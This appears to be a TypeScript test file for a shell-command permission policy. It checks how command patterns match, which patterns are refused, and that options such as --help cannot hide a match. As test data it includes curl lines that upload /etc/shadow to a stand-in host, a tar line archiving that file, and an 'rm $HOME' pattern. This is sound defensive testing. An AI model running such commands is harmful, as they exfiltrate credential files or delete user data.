import { equal, match, ok } from 'node:assert/strict';
import { readFileSync } from 'node:fs';

import { fitCommand } from '../../server/policy/command-fit.ts';
import { compileCommand } from '../../server/policy/command-pattern.ts';
import { invocationOf } from '../../server/policy/invocation.ts';
import { OPTION_SYNONYMS } from '../../server/policy/option-synonyms.ts';
import { strongest, type Fit } from '../../server/policy/policy.ts';
import { readShell } from '../../server/shell/read.ts';

function fit(source: string, line: string): Fit {
  const pattern = compileCommand(source);
  if (typeof pattern === 'string') throw new Error(pattern);
  return readShell(line)
    .commands.map((command) => fitCommand(pattern, invocationOf(command)))
    .reduce<Fit>(strongest, 'no');
}

/** Below each pattern: `+` it fits, `-` it doesn't, `?` it depends on what isn't known. */
const TABLE = readFileSync(
  new URL('../cases/policy/command-patterns.txt', import.meta.url),
  'utf8',
);

describe('a command pattern', () => {
  let source = '';
  const seen: Record<string, number> = { '+': 0, '-': 0, '?': 0 };
  const FITS: Readonly<Record<string, Fit>> = { '+': 'yes', '-': 'no', '?': 'maybe' };
  for (const row of TABLE.split('\n').filter((line) => line !== '' && !line.startsWith('#'))) {
    const found = /^ {2}([+?-]) (.*)$/.exec(row);
    if (found === null) {
      source = row;
      continue;
    }
    const [, sign = '', line = ''] = found;
    const pattern = source;
    seen[sign] = (seen[sign] ?? 0) + 1;
    it(`${pattern}: ${FITS[sign]} for ${line}`, () => equal(fit(pattern, line), FITS[sign]));
  }
  it('is tried with fitting, other and unsure commands', () => {
    ok((seen['+'] ?? 0) > 120 && (seen['-'] ?? 0) > 70 && (seen['?'] ?? 0) > 10);
  });

  const REFUSED: readonly (readonly [string, RegExp])[] = [
    ['', /names no program/],
    ['--force', /names no program/],
    ['/usr/bin/', /names a directory/],
    ['a | b', /holds \|/],
    ['a; b', /holds a;/],
    ['a && b', /holds &&/],
    ['a > /etc/x', /holds >/],
    ['a 2>/dev/null', /holds 2>/],
    ['a &', /holds &/],
    ['rm $HOME', /variable or a substitution/],
    ['rm $(x)', /variable or a substitution/],
    ['rm `x`', /variable or a substitution/],
    ['A=1 rm', /assignment/],
    ['rm "x', /left open/],
  ];
  for (const [pattern, message] of REFUSED) {
    it(`is refused when it is ${JSON.stringify(pattern)}`, () => {
      const compiled = compileCommand(pattern);
      ok(typeof compiled === 'string');
      match(compiled, message);
    });
  }

  it('takes the value of an option for no option: nothing hides behind --help', () => {
    equal(fit('curl -T *', 'curl -A --help -T /etc/shadow http://a'), 'yes');
    equal(fit('curl -T *', 'curl --new --help -T /etc/shadow http://a'), 'yes');
    equal(fit('curl -T *', 'curl "$X" --help -T /etc/shadow http://a'), 'yes');
    equal(fit('tar -c *', 'tar cf --help /etc/shadow'), 'yes');
    equal(fit('mysql -e *', 'mysql -u --version -e x'), 'yes');
    equal(fit('curl -T *', 'curl --help -T'), 'no');
  });

  it('compares long lines with long patterns in bounded time', () => {
    const pattern = `x ${'a* *b '.repeat(40)}`;
    equal(fit(pattern, `x ${'aXb '.repeat(2_000)}`), 'yes');
    equal(fit(`${pattern} z`, `x ${'aXb '.repeat(2_000)}`), 'no');
  });
});

describe('the table of option spellings', () => {
  it('has every line in the form that it describes, each program once, each spelling once', () => {
    const names = new Set<string>();
    for (const line of OPTION_SYNONYMS.split('\n').filter(Boolean)) {
      ok(/^[a-z][\w. -]*(, [a-z][\w. -]*)*: -.*$/.test(line), line);
      const [programs = '', sets = ''] = line.split(': ');
      for (const name of programs.split(', ')) {
        ok(!names.has(name), `${name} is there twice`);
        names.add(name);
      }
      const spelt = sets.split(' | ').flatMap((set) => set.split(' '));
      for (const one of spelt) ok(/^--?[\w#@?%-]+$/.test(one), `${line}: ${one}`);
      for (const set of sets.split(' | ')) ok(set.split(' ').length > 1, `${line}: ${set}`);
      equal(new Set(spelt).size, spelt.length, `${programs} has a spelling twice`);
    }
    ok(names.size > 150);
  });
});
